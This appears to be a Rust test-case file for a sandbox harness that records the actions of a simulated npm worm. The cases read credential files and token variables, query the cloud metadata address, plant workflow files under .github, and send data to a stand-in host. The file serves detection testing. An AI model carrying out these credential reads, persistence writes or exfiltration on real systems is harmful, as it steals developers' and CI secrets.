//! Scans the home and the environment for tokens, and leaves a workflow that sends more later.

use super::case::{
    Case,
    Mark::{Credential, Network, PutBack, Write},
    Scene,
};

cases![
    harvest_files = Case::new(
        "looks for tokens where tools keep them",
        &[
            "file",
            "read",
            "/root/.npmrc",
            "/root/.git-credentials",
            "/root/.config/gh/hosts.yml",
            "/root/.aws/credentials",
            "/root/.config/gcloud/application_default_credentials.json",
        ]
    )
    .recorded(&[
        Credential("/root/.git-credentials"),
        Credential("/root/.config/gh/hosts.yml"),
        Credential("/root/.aws/credentials"),
        Credential("/root/.config/gcloud/application_default_credentials.json"),
    ]),
    harvest_environment = Case::new(
        "looks for tokens among its variables",
        &[
            "file",
            "environment",
            "NPM_TOKEN",
            "NODE_AUTH_TOKEN",
            "GITHUB_TOKEN",
            "AWS_SECRET_ACCESS_KEY",
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
        ]
    )
    .unrecorded("none is handed on, so nothing is tried"),
    cloud_identity =
        Case::new("asks the cloud who it is", &["network", "tcp", "169.254.169.254:80"])
            .recorded(&[Network("169.254.169.254:80")]),
    leave_workflow = Case::new(
        "leaves a workflow that runs with the next push",
        &["file", "make", ".github/workflows/shai-hulud-workflow.yml", ".github/w.yml"],
    )
    .at(Scene::InPlace)
    .recorded(&[
        Write("{workspace}/.github/workflows/shai-hulud-workflow.yml"),
        Write("{workspace}/.github/w.yml"),
    ])
    .put_back(&[
        PutBack("{workspace}/.github/workflows/shai-hulud-workflow.yml"),
        PutBack("{workspace}/.github/w.yml"),
    ]),
    send = Case::new("sends what it found", &["network", "tcp", "203.0.113.80:443"])
        .recorded(&[Network("203.0.113.80:443")]),
];
